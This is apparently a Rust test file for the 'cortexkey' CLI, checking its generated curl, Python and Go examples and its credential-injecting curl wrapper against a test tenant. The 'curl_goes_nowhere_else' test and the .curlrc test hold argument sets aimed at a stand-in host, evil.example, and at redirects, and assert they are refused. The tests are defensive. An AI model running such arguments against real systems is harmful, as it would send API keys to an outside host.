//! `cortexkey curl` and what `cortexkey examples` prints, run against a tenant.

#![allow(clippy::print_stdout, reason = "what is skipped is said")]

use std::fs;
use std::path::Path;
use std::process::Command;

use crate::common::{Tenant, finish};

/// Runs a program with the settings that the examples read.
fn run(tenant: &Tenant, level: &str, program: &mut Command) -> crate::common::Ran {
    let (id, key) = tenant.key(level);
    program.env("CORTEXKEY_API_URL", tenant.url()).env("CORTEXKEY_API_KEY_ID", id);
    program.env("CORTEXKEY_API_KEY", key).env("CORTEXKEY_API_KEY_TYPE", level);
    finish(program)
}

fn example(tenant: &Tenant, language: &str, level: &str) -> String {
    let ran = finish(&mut tenant.with_key(level, &["examples", language]));
    assert_eq!((ran.code, ran.stderr.as_str()), (0, ""));
    assert!(ran.stdout.contains(tenant.url()), "{}", ran.stdout);
    assert!(!ran.stdout.contains(&tenant.key(level).1));
    ran.stdout
}

fn is_there(program: &str, argument: &str) -> bool {
    let there = Command::new(program).arg(argument).output().is_ok();
    if !there {
        println!("skipped: there is no {program} on this machine");
    }
    there
}

#[test]
fn the_examples_of_shell_and_python_work() {
    let tenant = Tenant::start();
    let folder = tempfile::tempdir().unwrap();
    for (language, program) in [("curl", "bash"), ("python", "python3")] {
        if !is_there(program, "--version") {
            continue;
        }
        for level in ["standard", "advanced"] {
            let file = folder.path().join(format!("{language}-{level}"));
            fs::write(&file, example(&tenant, language, level)).unwrap();
            for _ in 0..2 {
                let ran = run(&tenant, level, Command::new(program).arg(&file));
                assert_eq!((ran.code, ran.stdout.trim()), (0, "\"true\""), "{language} {ran:?}");
            }
            // Each example is for its level: the tenant refuses it with a key of the other.
            let other = if level == "standard" { "advanced" } else { "standard" };
            let ran = run(&tenant, other, Command::new(program).arg(&file));
            assert!(!ran.stdout.contains("\"true\""), "{language} {ran:?}");
        }
    }
}

#[test]
fn the_example_in_go_works() {
    if !is_there("go", "version") {
        return;
    }
    let module = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../go").canonicalize().unwrap();
    let tenant = Tenant::start();
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("main.go"), example(&tenant, "go", "advanced")).unwrap();
    let path = "github.com/cortexkey/cortexkey/go";
    let text = format!(
        "module example\n\ngo 1.24\n\nrequire {path} v0.0.0\n\nreplace {path} => {:?}\n",
        module.display()
    );
    fs::write(folder.path().join("go.mod"), text).unwrap();
    let mut compiler = Command::new("go");
    compiler.args(["build", "-o", "example"]).current_dir(folder.path());
    // Nothing is fetched.
    compiler.envs([("GOFLAGS", "-mod=mod"), ("GOPROXY", "off"), ("CGO_ENABLED", "0")]);
    let built = finish(&mut compiler);
    assert_eq!(built.code, 0, "{built:?}");
    for level in ["standard", "advanced"] {
        let ran = run(&tenant, level, &mut Command::new(folder.path().join("example")));
        assert_eq!((ran.code, ran.stdout.trim()), (0, "\"true\""), "{ran:?}");
    }
}

#[test]
fn curl_runs_with_the_headers_of_both_levels() {
    let tenant = Tenant::start();
    for level in ["standard", "advanced"] {
        for arguments in [
            &["curl", "--", "/api_keys/validate/", "-d", "{}"][..],
            &["curl", "--", &format!("{}/api_keys/validate/", tenant.url()), "-s", "-d", "{}"],
            &["curl", "/public_api/v1/healthcheck", "--silent", "--fail"],
        ] {
            let ran = finish(&mut tenant.with_key(level, arguments));
            assert_eq!(ran.code, 0, "{ran:?}");
            assert!(ran.stdout.contains("true") || ran.stdout.contains("available"), "{ran:?}");
        }
        let refused = finish(&mut tenant.with_key(level, &["curl", "/nowhere", "-s", "--fail"]));
        assert_eq!(refused.code, 1);
        assert!(refused.stderr.contains("curl ended with 22"), "{refused:?}");
    }
}

#[test]
fn a_curlrc_gets_no_headers() {
    let tenant = Tenant::start();
    let home = tempfile::tempdir().unwrap();
    let trace = home.path().join("trace");
    let other = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    other.set_nonblocking(true).unwrap();
    let rc = format!(
        "url = http://{}/\ntrace-ascii = {}\n",
        other.local_addr().unwrap(),
        trace.display()
    );
    fs::write(home.path().join(".curlrc"), rc).unwrap();
    let mut curl = tenant.with_key("advanced", &["curl", "--", "/api_keys/validate/", "-d", "{}"]);
    let ran = finish(curl.env("HOME", home.path()));
    assert_eq!(ran.code, 0, "{ran:?}");
    assert!(!trace.exists() && other.accept().is_err());
}

#[test]
fn curl_goes_nowhere_else() {
    let tenant = Tenant::start();
    for arguments in [
        &["curl", "--", "https://evil.example/"][..],
        &["curl", "--", "/x", "https://evil.example/"],
        &["curl", "--", "/x", "--silent", "evil.example"],
        &["curl", "--", "/x", "-L"],
        &["curl", "--", "@evil.example"],
        &["curl", "--", "/x", "--data", "@-"],
    ] {
        let ran = finish(&mut tenant.with_key("advanced", arguments));
        assert_eq!((ran.code, ran.stdout.as_str()), (2, ""), "{ran:?}");
    }
}
